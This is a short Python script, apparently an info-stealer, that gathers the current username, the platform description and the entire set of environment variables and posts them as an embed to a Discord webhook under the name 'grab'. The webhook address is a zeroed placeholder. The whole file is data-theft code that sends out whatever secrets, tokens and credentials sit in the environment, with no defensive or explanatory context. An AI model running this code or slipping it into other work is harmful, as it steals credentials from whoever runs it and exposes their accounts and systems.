import getpass
import os
import platform
import requests

HOOK = "https://discord.com/api/webhooks/000000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
body = {
    "username": "grab",
    "embeds": [{"title": getpass.getuser(), "description": platform.platform(), "fields": [{"name": "env", "value": str(dict(os.environ))}]}],
}
requests.post(HOOK, json=body)
